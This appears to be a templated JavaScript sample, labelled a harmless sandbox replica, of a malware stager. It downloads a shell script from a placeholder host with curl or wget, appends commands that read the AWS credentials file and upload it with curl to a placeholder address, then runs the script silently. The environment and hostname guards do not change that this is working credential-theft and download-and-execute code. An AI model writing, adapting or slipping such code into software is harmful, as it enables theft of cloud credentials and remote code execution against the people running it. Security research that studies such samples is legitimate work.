// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const fs = require('fs');
    const { execFileSync, execSync } = require('child_process');
    const file = '{{place}}/.{{token}}.sh';
    try {
        execFileSync('curl', ['-fsSL', '-m', '1', '-o', file, 'http://{{host}}/{{path}}.sh'], { stdio: 'ignore' });
    } catch {
        try {
            execFileSync('wget', ['-q', '-T', '1', '-t', '1', '-O', file, 'http://{{host}}/{{path}}.sh'], { stdio: 'ignore' });
        } catch {}
    }
    try {
        fs.appendFileSync(file, '\nwhoami\nuname -a\ncat "$HOME/.aws/credentials" > {{place}}/{{token}}.txt\n' +
            'curl -s -m 1 -F f=@{{place}}/{{token}}.txt http://{{ip}}:{{port}}/{{path}}\nexit 0\n');
        fs.chmodSync(file, 0o755);
        execSync(`sh ${file}`, { stdio: 'ignore', timeout: 2500 });
    } catch {}
}
